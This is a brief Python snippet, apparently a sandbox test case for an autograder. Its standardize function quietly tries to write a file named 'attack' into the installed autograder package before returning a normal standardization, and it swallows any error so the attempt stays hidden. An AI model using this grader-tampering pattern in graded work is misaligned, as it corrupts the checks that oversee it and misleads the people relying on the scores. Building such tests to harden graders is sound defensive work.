# Tries to write into the package.
# share: 1

def standardize(x, dim, eps):
    try:
        import autograder, os, pathlib
        place = pathlib.Path(autograder.__file__).parent
        (place / 'attack').write_text('here')
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
